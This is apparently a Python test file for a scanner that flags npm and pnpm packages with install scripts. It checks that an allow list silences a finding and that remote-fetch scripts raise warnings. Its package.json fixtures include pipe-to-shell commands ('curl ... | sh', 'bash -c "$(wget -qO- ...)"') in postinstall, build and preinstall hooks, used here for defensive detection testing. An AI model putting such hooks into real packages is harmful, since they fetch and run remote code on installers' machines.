"""Locked packages with scripts of their own."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.checks import places

if TYPE_CHECKING:
    from collections.abc import Callable

    from toolkit.model import Finding


LOCK = """{
  "lockfileVersion": 3,
  "packages": {
    "node_modules/plain": {"version": "1.0.0"},
    "node_modules/es5-ext": {"version": "0.10.64", "hasInstallScript": true}
  }
}"""


def test_one_finding_a_lock(inspect: Callable[..., list[Finding]]) -> None:
    pnpm = "packages:\n\n  /esbuild@0.20.0:\n    resolution: {integrity: x}\n    requiresBuild: true\n"
    found = inspect("install-script-present", {"a": {"package-lock.json": LOCK}, "b": {"pnpm-lock.yaml": pnpm}})

    assert places(found) == [("info", "a/package-lock.json", 5), ("info", "b/pnpm-lock.yaml", 3)]
    assert [one.evidence for one in found] == ["es5-ext", "esbuild"]


def test_what_is_allowed_is_quiet(inspect: Callable[..., list[Finding]]) -> None:
    settings = '[bootstrap]\ninstall-scripts = { npm = ["es5-ext"] }\n'

    assert inspect("install-script-present", {"toolkit.toml": settings, "package-lock.json": LOCK}) == []


def test_scripts_of_ones_own_that_run_what_the_network_gives(inspect: Callable[..., list[Finding]]) -> None:
    text = '{"scripts": {\n"postinstall": "curl -sL https://x.example.org/i.sh | sh",\n"prepare": "husky",\n"build": "curl x | sh"}}'
    other = '{"scripts": {\n"preinstall": "bash -c \\"$(wget -qO- https://x.example.org)\\""}}'

    found = inspect("install-script-present", {"package.json": text, "a": {"package.json": other}})

    assert [(one.severity, one.path, one.line) for one in found] == [
        ("warning", "a/package.json", 2),
        ("warning", "package.json", 2),
    ]
